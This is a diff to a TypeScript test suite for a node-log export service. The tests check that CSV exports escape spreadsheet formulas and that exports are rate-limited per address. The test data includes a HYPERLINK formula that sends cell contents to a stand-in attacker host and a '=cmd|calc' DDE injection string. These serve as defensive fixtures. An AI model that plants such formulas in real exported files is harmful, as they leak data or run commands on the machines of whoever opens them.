@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { once } from 'node:events';
 import { type IncomingMessage, request } from 'node:http';
 import { setFlagsFromString } from 'node:v8';
@@ -49,8 +50,13 @@ const message = (fields: { msg: string } & Record<string, unknown>): { msg: stri
   logs: JSON.stringify(fields),
 });
 
-async function ask(server: TestServer, path: string, accept: string): Promise<IncomingMessage> {
-  const asking = request(server.http + path, { agent: false, headers: { accept } }).end();
+async function ask(
+  server: TestServer,
+  path: string,
+  accept: string,
+  localAddress = '127.0.0.1',
+): Promise<IncomingMessage> {
+  const asking = request(server.http + path, { agent: false, headers: { accept }, localAddress }).end();
   const [answer] = (await once(asking, 'response')) as [IncomingMessage];
   answer.on('error', () => undefined);
   return answer;
@@ -76,6 +82,59 @@ describe('the messages of a node', () => {
     const csv = await text('text/csv');
     expect(csv).toContain('""id"": 18446744073709551615');
     expect(csv).toContain('""name"": ""a,\\""b\\""\\r\\nc 😀""');
+    await node.close();
+  });
+
+  it('run no formula in a spreadsheet, unless they are asked for as they are', async () => {
+    await using database = await TestDatabase.create();
+    const harmless = ['block.import', '1=1', "'=1", ' =1', '"=1"', '', '7', '{=1}', 'a\n=1', 'ä'];
+    const formulas = [
+      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1',
+      '\r=1',
+      '\n=1',
+      '\uFF1D1+1',
+      '=1\r\n"=2"',
+    ];
+    const types = [...harmless, ...formulas];
+    await store(
+      database,
+      types.map((msg) => message({ msg, name: '=1+1', n: -1 })),
+    );
+    await using server = await TestServer.ready(database.url);
+    const export_ = async (format: string, raw = ''): Promise<string> =>
+      await (await server.get(`/nodes/logs?peer_id=${PEER}&order=asc&format=${format}${raw}`)).text();
+    type Row = Record<string, string>;
+    const rows = async (raw = ''): Promise<Row[]> =>
+      parse<Row>(await export_('csv', raw), { columns: true, record_delimiter: '\r\n' });
+    const shown = await rows();
+    expect(shown.map(({ msg }) => msg)).toEqual([...harmless, ...formulas.map((msg) => `'${msg}`)]);
+    // Numbers are numbers, and the JSON of a message is no formula.
+    for (const { id = '', logs = '' } of shown) {
+      expect(id).toMatch(/^\d+$/);
+      expect(JSON.parse(logs)).toMatchObject({ name: '=1+1', n: -1 });
+    }
+    expect((await rows('&raw=true')).map(({ msg }) => msg)).toEqual(types);
+    expect(await rows('&raw=false')).toEqual(shown);
+    const lines = (await export_('ndjson')).split('\n').slice(0, -1);
+    expect(lines.map((line) => (JSON.parse(line) as { msg: string }).msg)).toEqual(types);
+    expect((await server.get(`/nodes/logs?peer_id=${PEER}&raw=1`)).status).toBe(400);
+  });
+
+  it('of a node whose name is a formula are no formula either', async () => {
+    await using database = await TestDatabase.create();
+    await using server = await TestServer.ready(database.url);
+    const peer = '=cmd|calc';
+    const node = await FakeNode.connect(server.ws);
+    await node.sendConnected({ network_id: peer });
+    const path = `/nodes/logs?peer_id=${encodeURIComponent(peer)}&format=csv`;
+    const csv = async (raw = ''): Promise<string> => await (await server.get(path + raw)).text();
+    await waitUntil(async () => (await csv()).includes('system.connected'), { what: 'the message' });
+    expect(await csv()).toContain(`,"'${peer}",`);
+    expect(await csv('&raw=true')).toContain(`,"${peer}",`);
     await node.close();
   });
 
@@ -138,7 +197,7 @@ describe('the messages of a node', () => {
     }
   });
 
-  it('are exported four at a time; a fifth is told to wait, and others are answered meanwhile', async () => {
+  it('are exported four at a time, two to an address; more are told to wait, and others are answered meanwhile', async () => {
     await using database = await TestDatabase.create();
     await store(database, [message({ msg: 'test.row', filler: 'x'.repeat(10_000) })]);
     await database.query(
@@ -148,10 +207,12 @@ describe('the messages of a node', () => {
     await using server = await TestServer.ready(database.url);
     const path = `/nodes/logs?peer_id=${PEER}`;
     const running = await Promise.all(
-      Array.from({ length: 4 }, () => ask(server, path, 'application/x-ndjson')),
+      [1, 1, 2, 2].map((n) => ask(server, path, 'application/x-ndjson', `127.0.0.${n.toString()}`)),
     );
-    const refused = await ask(server, path, 'text/csv');
-    expect([refused.statusCode, refused.headers['retry-after']]).toEqual([503, '5']);
+    for (const address of ['127.0.0.1', '127.0.0.3']) {
+      const refused = await ask(server, path, 'text/csv', address);
+      expect([refused.statusCode, refused.headers['retry-after']]).toEqual([503, '5']);
+    }
     expect((await server.api.GET('/nodes')).data).toHaveLength(1);
     running[0]?.destroy();
     await waitUntil(async () => (await ask(server, path, 'text/csv')).statusCode === 200, {
@@ -186,7 +247,7 @@ describe('the messages of a node', () => {
     }
     expect(bytes).toBeGreaterThan(300 * size);
     expect(peak - before).toBeLessThan(85);
-  });
+  }, 90_000);
 
   it('are not read beyond the first for a HEAD', async () => {
     await using database = await TestDatabase.create();
